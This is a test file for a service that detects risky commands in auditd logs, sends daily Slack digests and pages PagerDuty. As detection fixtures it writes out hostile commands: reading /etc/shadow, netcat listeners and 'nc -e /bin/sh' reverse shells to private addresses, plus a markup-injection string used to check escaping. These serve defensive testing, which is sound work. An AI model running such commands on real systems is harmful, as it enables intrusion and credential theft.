import { appendFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import { digestPeriodAt } from '../../src/digest/digest-period.js';
import { silentLogger } from '../../src/logger.js';
import { auditdRecords } from '../../src/sandbox/demo-log.js';
import { startService } from '../../src/service.js';
import { listDigests } from '../../src/store/queries/digests.js';
import { Harness, messageText } from './harness.js';

/** auid 4294967295: the kernel's "unset", a command run by a daemon, cron or a systemd unit. */
const UNSET = 4294967295;

let serial = 9000;

/** Appends an exec with no login user (as root) to the harness's audit log. */
function runAsSystem(h: Harness, argv: string[], host: string, cwd = '/'): void {
  serial += 1;
  appendFileSync(h.logPath, auditdRecords({ login: 'unset', uid: UNSET, runAs: 'root', runAsUid: 0, argv, cwd, host }, h.clock.now(), serial, 20_000 + serial));
}

/** Five system-actor commands that match rules, on three hosts, one of them with hostile text. */
function runFiveSystemCommands(h: Harness): void {
  runAsSystem(h, ['cat', '/etc/shadow'], 'web-1');
  runAsSystem(h, ['cat', '/etc/shadow'], 'web-2');
  runAsSystem(h, ['nc', '-lvnp', '4444'], 'web-1');
  runAsSystem(h, ['tcpdump', '-i', 'eth0'], 'db-1');
  runAsSystem(h, ['cat', '/etc/shadow', '<!channel>', '`x`'], 'db-1');
}

describe('system actors are digested, not posted', () => {
  let h: Harness;
  afterEach(async () => h?.stop());

  it('records each as escalated (system_actor) without a post, then posts one digest for the day, once', async () => {
    h = await new Harness().start();
    runFiveSystemCommands(h);
    await h.settle();
    const alerts = await h.alerts();
    expect(alerts).toHaveLength(5);
    for (const alert of alerts) expect(alert).toMatchObject({ status: 'escalated', escalation_reason: 'system_actor', owner: null });
    expect(h.security()).toHaveLength(0);
    // The day has not ended: nothing to post yet.
    expect(await h.service.digests.runOnce()).toBe(0);

    h.clock.advance(24 * 3600_000);
    expect(await h.service.digests.runOnce()).toBe(1);
    expect(await h.service.digests.runOnce()).toBe(0);
    const posts = h.security();
    expect(posts).toHaveLength(1);
    const text = messageText(posts[0]!);
    expect(posts[0]!.text).toContain('Daily digest: 5 commands with no login user');
    for (const host of ['web-1', 'web-2', 'db-1']) expect(text).toContain(`\`${host}\``);
    // Attacker-controlled command text never becomes a mention or live markup.
    expect(text).not.toContain('<!channel>');
    expect(text).toContain('&lt;!channel&gt;');
    const [digest] = await listDigests(h.service.store.db);
    expect(digest).toMatchObject({ period: digestPeriodAt(new Date('2026-11-24T09:00:00Z'), 'daily').key, alert_count: 5, ts: posts[0]!.ts });
  }, 60_000);

  it('posts the digest once when two replicas run the round at the same moment', async () => {
    h = await new Harness().start();
    const other = await startService({ config: h.config, store: await h.store.reopen(), clock: h.clock, logger: silentLogger, autoRun: false });
    try {
      runFiveSystemCommands(h);
      await h.settle();
      h.clock.advance(24 * 3600_000);
      const posted = await Promise.all([h.service.digests.runOnce(), other.digests.runOnce(), h.service.digests.runOnce(), other.digests.runOnce()]);
      expect(posted.reduce((sum, count) => sum + count, 0)).toBe(1);
      expect(h.security()).toHaveLength(1);
    } finally {
      await other.stop();
      await other.store.close();
    }
  }, 60_000);

  it('posts a critical command with no login user at once (a web shell), and digests the rest', async () => {
    h = await new Harness().start();
    runAsSystem(h, ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], 'web-1', '/var/www');
    runAsSystem(h, ['cat', '/etc/shadow'], 'web-1');
    await h.settle();
    const alerts = await h.alerts();
    expect(alerts.map((alert) => [alert.rule_id, alert.escalation_reason]).sort()).toEqual([
      ['reverse-shell', 'unknown_owner'],
      ['shadow-read', 'system_actor'],
    ]);
    expect(h.security()).toHaveLength(1);
    expect(h.security()[0]!.text).toContain('nc -e /bin/sh');
  }, 60_000);

  it('keeps people out of the digest: a command by a login user is still asked in a DM', async () => {
    h = await new Harness().start();
    runAsSystem(h, ['cat', '/etc/shadow'], 'web-1');
    h.runCommand({ login: 'alice', uid: 1000, slackId: 'UALICE' }, ['cat', '/etc/shadow']);
    await h.settle();
    const alerts = await h.alerts();
    expect(alerts.map((alert) => [alert.owner, alert.status])).toEqual([
      [null, 'escalated'],
      ['alice', 'asked'],
    ]);
  }, 60_000);
});

describe('digest periods', () => {
  it('are UTC days or hours, the same on every replica', () => {
    const at = new Date('2026-12-01T23:59:59.999Z');
    expect(digestPeriodAt(at, 'daily')).toEqual({ key: 'daily:2026-12-01', startsAt: new Date('2026-12-01T00:00:00Z'), endsAt: new Date('2026-12-02T00:00:00Z') });
    expect(digestPeriodAt(at, 'hourly')).toEqual({ key: 'hourly:2026-12-01T23', startsAt: new Date('2026-12-01T23:00:00Z'), endsAt: new Date('2026-12-02T00:00:00Z') });
  });
});

describe('a critical command of a system actor, run again and again', () => {
  let h: Harness;
  afterEach(async () => h?.stop());

  it('is one alert, one channel post and one page, its repeats counted and noted in its thread', async () => {
    const { PagerDutySimulator } = await import('../../src/sandbox/pagerduty-simulator.js');
    const pagerduty = new PagerDutySimulator({ routingKeys: ['R0UTINGKEY0000000000000000000000'] });
    const listener = await pagerduty.listen(0);
    try {
      h = await new Harness().start({ extraYaml: [`pagerduty: { routing_key: R0UTINGKEY0000000000000000000000, api_url: ${listener.url} }`] });
      const shell = ['nc', '-e', '/bin/sh', '10.9.9.9', '4444'];
      for (let i = 0; i < 4; i += 1) runAsSystem(h, shell, 'app-1');
      await h.settle();
      const [alert, ...others] = await h.alerts();
      expect(others).toHaveLength(0);
      expect(alert).toMatchObject({ status: 'escalated', escalation_reason: 'unknown_owner', occurrences: 4, severity: 'critical' });
      const posts = () => h.security().filter((m) => m.threadTs === null);
      expect(posts()).toHaveLength(1);
      // Once escalated, a repeat is a note in the escalation's thread and folds into its incident.
      h.clock.advance(60_000);
      runAsSystem(h, shell, 'app-1');
      await h.settle();
      expect(await h.alerts()).toHaveLength(2);
      expect(posts()).toHaveLength(1);
      expect(h.security().filter((m) => m.threadTs === posts()[0]!.ts).length).toBeGreaterThanOrEqual(1);
      expect(pagerduty.incidents().map((incident) => incident.dedupKey)).toEqual([alert!.id]);
    } finally {
      await listener.close();
    }
  });
});
